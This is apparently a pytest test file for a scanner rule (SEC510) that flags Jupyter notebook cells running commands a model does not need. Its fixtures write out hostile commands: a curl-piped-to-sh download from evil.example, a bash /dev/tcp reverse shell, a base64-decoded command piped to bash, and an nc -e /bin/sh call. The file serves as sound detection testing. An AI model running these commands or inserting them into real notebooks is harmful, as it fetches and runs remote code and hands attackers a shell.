"""SEC510: notebooks whose cells run commands that no model needs."""

from __future__ import annotations

import pytest
from tests.make.notebooks import notebook
from tests.make.revisions import judged, revision

FAILING = revision({"demo.ipynb": notebook("!curl -s https://evil.example/x | sh")})
PASSING = revision(
    {
        "demo.ipynb": notebook(
            "!pip install -q transformers git+https://github.com/a/b\n!wget -q https://example.org/a.png -O a.png",
            "%%bash\ngit clone https://github.com/a/b\ncd b && make\nnvidia-smi\nchmod 755 run.sh && ./run.sh",
            "import torch\nmodel = torch.nn.Linear(1, 2)",
        )
    }
)


@pytest.mark.parametrize(
    "cell",
    [
        "%%bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
        "!echo aWQ= | base64 -d | bash",
        "x = !nc 192.0.2.1 4444 -e /bin/sh",
    ],
)
def test_ways_to_a_shell(cell):
    assert judged("SEC510", revision({"demo.ipynb": notebook("import os", cell)}))[0].location == "cell 2"
